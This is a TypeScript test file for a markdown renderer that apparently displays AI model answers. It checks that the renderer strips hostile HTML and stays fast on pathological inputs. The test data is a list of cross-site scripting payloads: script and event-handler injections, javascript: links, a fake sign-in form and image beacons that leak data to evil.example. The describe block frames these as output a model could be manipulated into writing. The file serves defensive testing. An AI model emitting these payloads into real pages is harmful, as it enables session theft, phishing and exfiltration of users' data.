import { countBusyMs } from '@nestling/contracts/testing/busy-time';
import { describe, expect, test } from 'vitest';
import { renderMarkdown } from './render-markdown.ts';

const SIZE = 20_000;
const fill = (part: string) => part.repeat(Math.ceil(SIZE / part.length)).slice(0, SIZE);
const HARMLESS =
  /^<(\/?(p|br|strong|em|del|ul|ol|li|blockquote|code|pre|h3|h4|hr|table|thead|tbody|tr|th|td)( \/)?|ol start="\d+"|\/?sup|sup data-source="1"|\/a|a( href="(https?|tel|mailto):[^"]*")? rel="noopener noreferrer nofollow" target="_blank")>$/i;
const tagsBesideHarmless = (html: string) => (html.match(/<[^>]*>?/g) ?? []).filter((tag) => !HARMLESS.test(tag));

describe('what a model could be talked into writing', () => {
  test.each([
    '<script>alert(1)</script>',
    '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><img src=x onerror=alert(1)></template>',
    '<form action="https://evil.example"><input type=password name=p><button>Sign in again</button></form>',
    '<div class="modal-open" id="root" style="position:fixed;inset:0">over</div>',
    '<img src="https://evil.example/p.png?d=Mia">',
    '![x](https://evil.example/p.png?d=Mia)',
    '![x][1]\n\n[1]: https://evil.example/p.png',
    '<video poster="https://evil.example/p.png"></video><picture><source srcset="https://evil.example/q.png"></picture>',
    '<table><tr><td background="https://evil.example/p.png">x</td></tr></table>',
    '<a href="javascript:alert(1)">a</a> [b](javascript:alert(1)) [c](java\tscript:alert(1)) [d](&#106;avascript:alert(1))',
    '[a](data:text/html,<script>alert(1)</script>) [b](vbscript:x) [c](//evil.example) <//evil.example>',
    '[a][x]\n\n[x]: javascript:alert(1)',
    '<a href="https://ok.example" onclick="alert(1)" style="x" class="y" id="location">a</a>',
    '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css"><meta http-equiv=refresh content="0;url=//evil.example">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x>',
    '```html\n<script>alert(1)</script>\n```',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<p><sup data-source="1" onmouseover=alert(1)>[1]</sup>',
    `${'> '.repeat(40)}<img src=x onerror=alert(1)> <script>alert(1)</script> "quoted" & <b>bold</b>`,
  ])(
    '%s is harmless, whole and wherever it is cut (XSS-008, XSS-009, XSS-010, XSS-011, XSS-012, XSS-013)',
    (markdown) => {
      for (let end = 1; end <= markdown.length; end += 1) {
        const html = renderMarkdown(markdown.slice(0, end), 1);
        expect(tagsBesideHarmless(html)).toEqual([]);
      }
    },
  );

  test('a link says nothing of where it was followed from and cannot reach back (XSS-019)', () => {
    expect(renderMarkdown('[the CDC](https://www.cdc.gov/)', 0)).toContain(
      '<a href="https://www.cdc.gov/" rel="noopener noreferrer nofollow" target="_blank">the CDC</a>',
    );
  });
});

describe('twenty thousand characters', () => {
  const wide = `${'|a'.repeat(300)}\n${'|-'.repeat(300)}\n`;
  test.each<[string, string]>([
    ['quotes', fill('>')],
    ['quotes and lists', fill('> - ')],
    ['numbers', fill('1. ')],
    ['an indented list', Array.from({ length: 140 }, (_, depth) => `${' '.repeat(depth * 2)}- a`).join('\n')],
    ['emphasis', fill('_a_')],
    ['strong emphasis', fill('**a')],
    ['code marks', fill('`a')],
    ['rows of a wide table', wide + fill('|a\n')],
    ['tags', fill('<b>')],
    ['open brackets', fill('[')],
    ['images', fill('![')],
    ['links', fill('[a](<b')],
    ['less-than signs', fill('<')],
    ['ampersands', fill('&')],
    ['attributes', `<a ${fill('x=1 ')}>`],
    ['comments', fill('<!--')],
    ['addresses', fill('a@')],
  ])('of %s are rendered in time and without a fault (XSS-014, XSS-015)', (_, markdown) => {
    const busyMs = countBusyMs();
    const html = renderMarkdown(markdown, 1);
    expect(busyMs()).toBeLessThan(1000);
    expect(tagsBesideHarmless(html)).toEqual([]);
    expect(html.length).toBeLessThan(30 * SIZE);
  });
});

test('an answer of the ordinary kind keeps its table, lists and emphasis', () => {
  const rows = Array.from({ length: 60 }, (_, month) => `| ${month} | **two** naps | _about_ 3 h |`).join('\n');
  const html = renderMarkdown(`> - Keep calm [1]\n\n| Month | Naps | Hours |\n|---|---|---|\n${rows}`, 1);
  for (const tag of ['<blockquote>', '<li>', '<table>', '<strong>', '<em>', '<sup data-source="1">'])
    expect(html).toContain(tag);
});
